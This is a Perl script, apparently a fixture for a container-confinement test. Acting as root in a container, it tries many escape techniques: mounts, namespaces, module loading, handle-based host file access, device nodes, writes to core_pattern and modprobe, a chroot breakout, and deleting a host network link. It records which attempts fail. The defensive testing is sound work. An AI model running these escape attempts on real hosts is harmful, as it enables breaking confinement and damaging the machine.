# What somebody would try who is root in a container and wants out of it. One line for each attempt: its name, a tab, and the
# number of the error that it ended with; 0 where it did not end with one. A line that begins with "open" names what could
# be opened though it should not be; one with "see" tells what is seen.
#
# Run by confinement.daemon.test.ts inside a container, with the numbers of x86-64. It uses no module: none is in the image.
#
# The rule that must hold: an attempt that works by mistake does the machine no harm.
#
#     perl escape.pl VICTIM LINK       a path and the index of a network interface, both of the host's

my ($victim, $link) = @ARGV;
$| = 1;
my ($NEWNS, $NEWUSER, $SIGCHLD, $HERE) = (0x20000, 0x10000000, 17, -100);

sub said { my ($name, $failed, $error) = @_; print $name, "\t", $failed ? $error + 0 : 0, "\n" }

# A system call that makes nothing new: its result is only whether it failed.
sub try { my ($name, @call) = @_; my @copy = @call; my $result = syscall(shift @copy, @copy); said($name, $result < 0, $!); return $result }

# In a process of its own, which ends with it.
sub apart {
  my ($code) = @_;
  my $pid = fork;
  die "fork: $!" if !defined $pid;
  if ($pid == 0) { $code->(); exec '/bin/true' }
  waitpid $pid, 0;
}

# What this process and the first one were given: before anything else is opened.
for my $process ('self', 1) {
  opendir(my $descriptors, "/proc/$process/fd") or die "fd: $!";
  for my $fd (sort grep { /^\d+$/ } readdir $descriptors) {
    my $target = readlink "/proc/$process/fd/$fd";
    next if !defined $target || $target eq "/proc/$$/fd";
    my ($device, $inode) = stat "/proc/$process/fd/$fd";
    print "see\tdescriptor $fd $device:$inode $target\n";
  }
}

sub mounts {
  my ($prefix) = @_;
  my ($none, $tmp, $root, $options) = ('none', '/tmp', '/', '');
  for my $type ('tmpfs', 'proc', 'sysfs', 'cgroup', 'cgroup2', 'devpts') { my $copy = $type; try("$prefix mount $type", 165, $none, $tmp, $copy, 0, $options) }
  my ($overlay, $layers) = ('overlay', 'lowerdir=/data:/etc');
  try("$prefix mount overlay", 165, $overlay, $tmp, $overlay, 0, $layers);
  my ($data, $nothing) = ('/data', '');
  try("$prefix mount bind", 165, $data, $tmp, $nothing, 4096, $options);
  my ($sys, $proc_sys) = ('/sys', '/proc/sys');
  for my $path ($sys, $proc_sys, $root) { my $copy = $path; try("$prefix remount $path", 165, $none, $copy, $nothing, 32 | 4096, $options) }
  try("$prefix umount /proc/sys", 166, $proc_sys, 2);
  try("$prefix mount_setattr", 442, $HERE, $proc_sys, 0, "\0" x 32, 32);
  my $tmpfs = 'tmpfs';
  try("$prefix fsopen", 430, $tmpfs, 0);
  try("$prefix open_tree", 428, $HERE, $data, 1);
  try("$prefix move_mount", 429, $HERE, $data, $HERE, $tmp, 0);
  try("$prefix pivot_root", 155, $data, $tmp);
}
mounts('plain');

# Namespaces: of users, in which there are capabilities again, and others.
apart(sub { try('unshare user', 272, $NEWUSER) ; mounts('in a namespace of users') });
apart(sub { try('unshare user and mounts', 272, $NEWUSER | $NEWNS) });
try('unshare mounts', 272, $NEWNS);
apart(sub { my $pid = syscall(56, $NEWUSER | $SIGCHLD, 0, 0, 0, 0); exec '/bin/true' if $pid == 0; said('clone user', $pid < 0, $!); waitpid $pid, 0 if $pid > 0 });
apart(sub {
  my $arguments = pack('Q8', $NEWUSER, 0, 0, 0, $SIGCHLD, 0, 0, 0);
  my $pid = syscall(435, $arguments, length $arguments);
  exec '/bin/true' if $pid == 0;
  said('clone3', $pid < 0, $!);
});
opendir(my $names, '/proc/1/ns') or die "/proc/1/ns: $!";
for my $name (grep { /^\w+$/ && !/for_children|user/ } readdir $names) {
  open(my $namespace, '<', "/proc/1/ns/$name") or die "$name: $!";
  try("setns $name", 308, fileno $namespace, 0);
}

# Modules, the clock, the machine.
my $none = '';
try('init_module', 175, "\x7fELF" . "\0" x 64, 68, $none);
open(my $self, '<', '/bin/perl') or die "perl: $!";
try('finit_module', 313, fileno $self, $none, 0);
my $module = 'nosuchmodule';
try('delete_module', 176, $module, 0x800);
# The time that it is, in case it works.
my $now = "\0" x 16;
syscall(96, $now, 0);
try('settimeofday', 164, $now, 0);
syscall(228, 0, $now);
try('clock_settime', 227, 0, $now);
try('adjtimex', 159, pack('Lx4q', 1, 0) . "\0" x 192);
try('clock_adjtime', 305, 0, pack('Lx4q', 1, 0) . "\0" x 192);
try('reboot', 169, 0xfee1dead, 672274793, 0, 0);  # CAD off: what it would do least harm with
try('sethostname', 170, my $host = 'other', 5);
try('setdomainname', 171, my $domain = 'other', 5);
try('swapon', 167, my $swap = '/data/one', 0);
try('acct', 163, my $account = '/tmp/account');
try('kexec_load', 246, 0, 0, 0, 0);
try('iopl', 172, 3);
try('ioperm', 173, 0x80, 1, 1);
try('vhangup', 153);
try('nice', 141, 0, 0, -5);
try('real time', 144, 0, 1, pack('l', 1));
try('setrlimit', 160, 7, pack('QQ', 1 << 30, 1 << 30));

# The kernel: its messages, keys, counters, programs.
my $buffer = "\0" x 256;
try('syslog', 103, 3, $buffer, 256);
my ($user, $key, $secret) = ('user', 'tsdock-test', 'secret');
try('add_key', 248, $user, $key, $secret, 6, -4);
try('request_key', 249, $user, $key, 0, 0);
try('keyctl link', 250, 8, -4, -3);
try('keyctl describe', 250, 6, -4, $buffer, 256);
try('perf_event_open', 298, pack('LLQ', 1, 112, 0) . "\0" x 96, 0, -1, -1, 0);
try('bpf', 321, 0, pack('LLLLL', 1, 4, 4, 1, 0) . "\0" x 100, 72);
try('fanotify_init', 300, 4, 0);

# Files of the host by their handles, through all that is mounted here.
open(my $mounts, '<', '/proc/mounts') or die "mounts: $!";
my %seen;
for my $path (grep { !$seen{$_}++ } map { (split ' ')[1] } <$mounts>) {
  my $handle = pack('LL', 128, 0) . "\0" x 128;
  my $id = pack('l', 0);
  my $copy = $path;
  next if syscall(303, $HERE, $copy, $handle, $id, 0) < 0;
  sysopen(my $mount, $path, 0) or next;
  try("open_by_handle_at $path", 304, fileno $mount, $handle, 0);
}
# Inode 2 is the root of most file systems on a disk.
for my $path ('/etc/hosts', '/etc/hostname', '/etc/resolv.conf') {
  open(my $mount, '<', $path) or die "$path: $!";
  try("root by handle $path", 304, fileno $mount, pack('LlLL', 8, 1, 2, 0), 0);
}

# Devices.
open(my $devices, '<', '/proc/devices') or die "devices: $!";
my $type;
while (<$devices>) {
  $type = /^Block/ ? 0060000 : 0020000 if /devices:/;
  next if !/^\s*(\d+) (\S+)/;
  for my $minor (0, 1) { my $path = "/tmp/node$1"; try(($type == 0060000 ? 'block' : 'character') . " $1:$minor", 133, $path, $type | 0600, ($1 << 8) | $minor) }
}

# Everything in /proc and /sys that could be written, but what is the container's: its processes, its network, and
# /proc/pressure, which can only be asked.
sub walk {
  my ($folder) = @_;
  opendir(my $names, $folder) or return;
  for my $name (readdir $names) {
    next if $name eq '.' || $name eq '..';
    my $path = "$folder/$name";
    next if $path =~ m{^/proc/(\d+|self|thread-self|net|pressure|sys/net)$} || -l $path;
    if (-d _) { walk($path) }
    elsif (-f _ && (stat _)[2] & 0222 && sysopen(my $file, $path, 1 | 04000)) { print "open\t$path\n" }
  }
}
walk('/proc');
walk('/sys');
for my $path ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/kernel/hostname', '/sys/kernel/uevent_helper') {
  next if !-e $path;
  said("write $path", !sysopen(my $file, $path, 1), $!);
}
for my $path ('/proc/kcore', '/proc/kmsg', '/dev/mem', '/dev/kmsg', '/proc/1/mem/..') {
  print "open\t$path\n" if sysopen(my $file, $path, 0) && defined sysread($file, my $byte, 1);
}

# The network that eth0's other end is in: take an interface there away.
socket(my $netlink, 16, 3, 0) or die "netlink: $!";
my $body = pack('CxSlLL', 0, 0, $link, 0, 0) . pack('SSl', 8, 46, 0);
my $message = pack('LSSLL', 16 + length $body, 17, 5, 1, 0) . $body;
if (!defined send($netlink, $message, 0)) { said('delete a link of the host', 1, $!) }
else { recv($netlink, my $answer, 4096, 0); said('delete a link of the host', unpack('x16l', $answer) != 0, -unpack('x16l', $answer)) }
said('raw socket', !socket(my $raw, 2, 3, 1), $!);
said('packet socket', !socket(my $packet, 17, 3, 0x300), $!);

# Other processes, and ways up.
opendir(my $processes, '/proc') or die "/proc: $!";
print "see\tprocesses ", join(' ', grep { /^\d+$/ && $_ != $$ } readdir $processes), "\n";
apart(sub {
  opendir(my $before, '/') or die "/: $!";
  mkdir '/tmp/jail';
  chroot '/tmp/jail' or return;
  print "see\tjail\n";
  syscall(81, fileno $before);
  chdir '..' for 1 .. 40;
  chroot '.';
  print "open\t$victim by chroot\n" if -e $victim;
});
for my $way ('', '/proc/1/root', '/proc/1/cwd', '/proc/self/root/../..', '/dev/fd/../../..', '/sys/../../..') { print "open\t$way$victim\n" if -e "$way$victim" }

# What could be changed of the host's files.
said('chmod of the first program', !chmod(0755, '/proc/1/exe'), $!) if readlink('/proc/1/exe') =~ m{^/dev/};
said('write to the first program', !sysopen(my $program, '/proc/1/exe', 1), $!) if readlink('/proc/1/exe') =~ m{^/dev/};
said('chmod of resolv.conf', !chmod(0666, '/etc/resolv.conf'), $!);
print "see\tend\n";
